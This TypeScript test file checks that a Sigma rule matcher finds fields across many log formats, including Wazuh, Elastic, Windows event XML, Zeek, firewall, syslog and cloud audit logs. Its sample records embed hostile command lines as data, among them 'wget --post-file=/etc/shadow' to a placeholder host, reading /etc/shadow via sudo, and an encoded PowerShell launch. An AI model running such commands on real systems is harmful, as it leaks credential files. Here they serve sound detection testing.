import { describe, expect, test } from "vitest";
import { matchesStored } from "./stored-record.fixture.ts";

const at = "2026-10-05T12:30:15.250Z";

describe("a field of Sigma is found where each tool writes it", () => {
  const alert = (data: object, more: object = {}) => ({
    timestamp: at,
    id: "1",
    rule: { id: "1", level: 3, description: "x", groups: ["x"] },
    agent: { id: "001", name: "caja" },
    ...more,
    data,
  });
  const defender = (name: string) =>
    `<Event xmlns='x'><System><Provider Name='Microsoft-Windows-Windows Defender'/><EventID>1116</EventID><TimeCreated SystemTime='${at}'/><Channel>Microsoft-Windows-Windows Defender/Operational</Channel><Computer>caja</Computer></System><EventData><Data Name='Threat Name'>${name}</Data></EventData></Event>`;
  const line =
    '10.0.0.5 - - [05/Oct/2026:09:30:15 -0300] "POST /subir HTTP/1.1" 404 5 "https://x.example/" "curl/8.1"';
  const cases: [string, string, string, object | string][] = [
    [
      "the threat of Defender",
      "category: antivirus",
      "Signature|contains: Ryuk",
      defender("Ransom:Win32/Ryuk.A"),
    ],
    [
      "the threat of Defender by Winlogbeat",
      "product: windows\n  service: windefend".replace("\n  ", ", "),
      "ThreatName|startswith: Ransom",
      {
        "@timestamp": at,
        winlog: {
          channel: "Microsoft-Windows-Windows Defender/Operational",
          event_id: "1116",
          event_data: { "Threat Name": "Ransom:Win32/Ryuk.A" },
        },
      },
    ],
    [
      "the method of a web log of Wazuh",
      "category: webserver",
      "cs-method: POST\ncs-uri-query|contains: subir\nsc-status: 404\nc-useragent|startswith: curl",
      alert(
        { protocol: "POST", srcip: "10.0.0.5", id: "404", url: "/subir" },
        { decoder: { name: "web-accesslog" }, full_log: line },
      ),
    ],
    [
      "the arguments of auditd by Wazuh",
      "product: linux, service: auditd",
      "type: EXECVE\na0: wget\na1|startswith: '--post-file='",
      alert(
        { audit: { type: "SYSCALL", execve: { a0: "wget", a1: "--post-file=/etc/shadow" } } },
        { decoder: { name: "auditd" } },
      ),
    ],
    [
      "the arguments of auditd by Filebeat",
      "product: linux, service: auditd",
      "type: EXECVE\na0: wget\na1|startswith: '--post-file='",
      {
        "@timestamp": at,
        ecs: { version: "8" },
        event: { module: "auditd", dataset: "auditd.log", action: "execve" },
        auditd: { log: { record_type: "EXECVE", a0: "wget", a1: "--post-file=/etc/shadow" } },
      },
    ],
    [
      "the arguments of auditd by Auditbeat",
      "product: linux, service: auditd",
      "type: EXECVE\na0: wget\na1|startswith: '--post-file='",
      {
        "@timestamp": at,
        ecs: { version: "8" },
        event: { module: "auditd", action: "executed" },
        auditd: { message_type: "syscall", data: { syscall: "execve" } },
        process: { args: ["wget", "--post-file=/etc/shadow", "x.example"] },
      },
    ],
    [
      "the audit of GitHub by Elastic",
      "product: github, service: audit",
      "action: org.disable_two_factor_requirement",
      {
        "@timestamp": at,
        ecs: { version: "8" },
        event: { dataset: "github.audit", action: "org.disable_two_factor_requirement" },
      },
    ],
    [
      "the audit of GitHub by Wazuh",
      "product: github, service: audit",
      "action: repo.destroy\nactor: jrojas",
      alert(
        { github: { action: "repo.destroy", actor: "jrojas", _document_id: "x" } },
        { decoder: { name: "json" } },
      ),
    ],
    [
      "a Mac by the system of its host",
      "product: macos, category: process_creation",
      "Image|endswith: /osascript",
      {
        "@timestamp": at,
        ecs: { version: "8" },
        host: { name: "mac-1", os: { type: "macos", name: "macOS" } },
        event: { category: ["process"], type: ["start"] },
        process: { executable: "/usr/bin/osascript" },
      },
    ],
    [
      "Okta in snake case, as Elastic writes it",
      "product: okta, service: okta",
      "debugContext.debugData.requestUri|contains: admin\nsecurityContext.isProxy: 'true'\neventType: user.session.start",
      {
        "@timestamp": at,
        ecs: { version: "8" },
        event: { module: "okta", dataset: "okta.system" },
        okta: {
          event_type: "user.session.start",
          debug_context: { debug_data: { request_uri: "/admin/users" } },
          security_context: { is_proxy: true },
        },
      },
    ],
    [
      "Google Workspace by Elastic",
      "product: gcp, service: google_workspace.admin",
      "eventService: admin.googleapis.com\neventName: CHANGE_APPLICATION_SETTING\nsetting_name|startswith: ContextAwareAccess",
      {
        "@timestamp": at,
        ecs: { version: "8" },
        event: { dataset: "google_workspace.admin", action: "CHANGE_APPLICATION_SETTING", provider: "admin" },
        google_workspace: { admin: { setting: { name: "ContextAwareAccess x" } } },
      },
    ],
    [
      "Google Workspace as the service reports it",
      "product: gcp, service: google_workspace.admin",
      "eventService: admin.googleapis.com\neventName: CHANGE_APPLICATION_SETTING\nsetting_name|startswith: ContextAwareAccess",
      {
        kind: "admin#reports#activity",
        id: { time: at, applicationName: "admin" },
        events: [
          {
            name: "CHANGE_APPLICATION_SETTING",
            parameters: [{ name: "SETTING_NAME", value: "ContextAwareAccess x" }],
          },
        ],
      },
    ],
  ];
  test.each(cases)("%s", (_, logsource, selection, record) => {
    expect(matchesStored(logsource, selection, record)).toBe(true);
  });

  test("a machine with macOS is none with Linux, whoever makes the record", () => {
    const mac = { "@timestamp": at, ecs: { version: "8" }, host: { os: { type: "macos" } }, message: "wget" };
    expect(matchesStored("product: linux", "message: wget", mac)).toBe(false);
  });
});

describe("the log sources of formats with a reader of their own", () => {
  const asa = "<166>Oct 05 2026 09:30:15 borde : ";
  const forti = 'date=2026-10-05 time=09:30:15 devname="b" devid="FG1" logid="0100032002"';
  const pan = "1,2026/10/05 09:30:19,0070";
  const sysmon = `<Event xmlns='x'><System><Provider Name='Microsoft-Windows-Sysmon'/><EventID>1</EventID><TimeCreated SystemTime='${at}'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>caja</Computer></System><EventData><Data Name='Image'>C:\\Windows\\System32\\whoami.exe</Data><Data Name='CommandLine'>whoami &quot;/all&quot;</Data></EventData></Event>`;
  const classic = `<Event xmlns='x'><System><Provider Name='PowerShell'/><EventID Qualifiers='0'>400</EventID><TimeCreated SystemTime='${at}'/><Channel>Windows PowerShell</Channel><Computer>caja</Computer></System><EventData><Data>Available</Data><Data>HostApplication=powershell -enc abc</Data></EventData></Event>`;
  const zeek = (more: object) => ({
    ts: 1_791_203_415,
    uid: "CHhAvVGS1DHFjwGM9",
    "id.orig_h": "203.0.113.9",
    ...more,
  });
  const signIn = {
    id: "s",
    createdDateTime: at,
    userPrincipalName: "j@sur.example",
    appDisplayName: "Correo",
    status: { errorCode: 50_057, failureReason: "User account is disabled." },
  };
  const rows: [string, string, string, object | string][] = [
    [
      "Sysmon in XML",
      "product: windows, category: process_creation",
      "CommandLine|contains: '\"/all\"'",
      sysmon,
    ],
    ["Sysmon in XML by its service", "product: windows, service: sysmon", "EventID: 1", sysmon],
    [
      "the classic log of PowerShell in XML",
      "product: windows, category: ps_classic_start",
      "EventID: 400\nData|contains: HostApplication=powershell",
      classic,
    ],
    [
      "zeek dns",
      "product: zeek, service: dns",
      "query|endswith: .onion",
      zeek({ _path: "dns", query: "x.onion" }),
    ],
    [
      "zeek dns as dns",
      "category: dns",
      "query|endswith: .onion",
      zeek({ qtype_name: "A", query: "x.onion" }),
    ],
    [
      "zeek http as proxy",
      "category: proxy",
      "c-useragent|startswith: Microsoft BITS\ncs-host|endswith: .xyz",
      zeek({ trans_depth: 1, method: "GET", host: "a.xyz", uri: "/x", user_agent: "Microsoft BITS/7.8" }),
    ],
    [
      "zeek by Elastic",
      "product: zeek, service: smb_files",
      "path|endswith: 'IPC$'",
      {
        "@timestamp": at,
        ecs: { version: "8" },
        event: { module: "zeek", dataset: "zeek.smb_files" },
        zeek: { smb_files: { path: "\\\\s\\IPC$" } },
      },
    ],
    [
      "cisco asa",
      "product: cisco, service: asa",
      "message_id: 111010\ncommand|contains: no logging",
      `${asa}%ASA-5-111010: User 'admin', running 'CLI' from IP 10.0.0.9, executed 'no logging enable'`,
    ],
    [
      "cisco asa as a firewall",
      "category: firewall",
      "dst_port: 22\naction: denied",
      `${asa}%ASA-4-106023: Deny tcp src outside:203.0.113.9/51000 dst inside:10.0.0.5/22 by access-group "X"`,
    ],
    [
      "fortigate",
      "product: fortigate, service: event",
      "action: Add\ncfgpath: system.admin",
      `${forti} type="event" subtype="system" level="information" action="Add" cfgpath="system.admin" cfgobj="intruso" msg="x"`,
    ],
    [
      "paloalto",
      "product: paloalto, service: threat",
      "severity: critical\nthreatid|contains: '40001'",
      `${pan},THREAT,vulnerability,1,2026/10/05 09:30:15,203.0.113.9,10.0.0.1,,,r,,,web,vsys1,o,i,e1,e2,l,,7,1,51000,443,0,0,0x0,tcp,alert,x,Ataque(40001),any,critical`,
    ],
    [
      "sshd",
      "product: linux, service: sshd",
      "message|contains: invalid user",
      "Oct  5 09:30:15 caja sshd[812]: Failed password for invalid user admin from 203.0.113.9 port 51000 ssh2",
    ],
    [
      "sudo",
      "product: linux, service: sudo",
      "USER: root\nCOMMAND|contains: /etc/shadow",
      "Oct  5 09:30:15 caja sudo:   jrojas : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/cat /etc/shadow",
    ],
    [
      "auth",
      "product: linux, service: auth",
      "message|contains: Accepted",
      "Oct  5 09:30:15 caja sshd[812]: Accepted password for j from 203.0.113.9 port 51000 ssh2",
    ],
    [
      "m365 threat_management",
      "service: threat_management, product: m365",
      "eventSource: SecurityComplianceCenter\neventName: Potential ransomware activity\nstatus: success",
      {
        CreationTime: "2026-10-05T12:30:15",
        Operation: "AlertTriggered",
        Workload: "SecurityComplianceCenter",
        Name: "Potential ransomware activity",
        ResultStatus: "Succeeded",
      },
    ],
    [
      "m365 exchange",
      "service: exchange, product: m365",
      "eventName: New-InboxRule\nForwardTo|contains: fuera",
      {
        CreationTime: "2026-10-05T12:30:15",
        Operation: "New-InboxRule",
        Workload: "Exchange",
        Parameters: [{ Name: "ForwardTo", Value: "x@fuera.example" }],
      },
    ],
    [
      "azure signinlogs of Graph",
      "product: azure, service: signinlogs",
      "ResultType: 50057\nResultDescription|startswith: User account is disabled.",
      signIn,
    ],
    [
      "azure signinlogs of Azure Monitor",
      "product: azure, service: signinlogs",
      "ResultType: 50057",
      {
        time: at,
        category: "SignInLogs",
        operationName: "Sign-in activity",
        resultType: "50057",
        properties: signIn,
      },
    ],
    [
      "azure auditlogs",
      "product: azure, service: auditlogs",
      "properties.message: Add member to role",
      {
        id: "c",
        activityDateTime: at,
        activityDisplayName: "Add member to role",
        initiatedBy: { user: {} },
        result: "success",
      },
    ],
    [
      "okta as the service gives it",
      "product: okta, service: okta",
      "eventtype: security.threat.detected\nclient.user.id|exists: false",
      { uuid: "o", published: at, eventType: "security.threat.detected", actor: {}, outcome: {} },
    ],
    [
      "an alert of Defender as antivirus",
      "category: antivirus",
      "Signature|contains: Ryuk",
      {
        id: "d",
        title: "Ransom Ryuk",
        severity: "high",
        detectionSource: "antivirus",
        serviceSource: "x",
        createdDateTime: at,
      },
    ],
    [
      "a channel of Windows by its name",
      "product: windows, service: printservice-admin",
      "EventID: 808",
      sysmon
        .replace("<EventID>1<", "<EventID>808<")
        .replace("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-PrintService/Admin"),
    ],
  ];
  test.each(rows)("%s", (_, logsource, selection, record) => {
    expect(matchesStored(logsource, selection, record)).toBe(true);
  });

  test.each([
    ["product: zeek, service: conn", "query|exists: true", zeek({ _path: "dns", query: "x" })],
    ["product: azure, service: auditlogs", "id: s", signIn],
    ["product: linux", "product: ASA", `${asa}%ASA-5-111008: User 'admin' executed the 'x' command.`],
    [
      "product: paloalto, service: globalprotect",
      "type: SYSTEM",
      `${pan},SYSTEM,general,1,2026/10/05 09:30:15,,general`,
    ],
    ["product: m365", "uuid: o", { uuid: "o", published: at, eventType: "x", actor: {} }],
  ])("a rule for %s leaves what is of another kind", (logsource, selection, record) => {
    expect(matchesStored(logsource, selection, record)).toBe(false);
  });
});
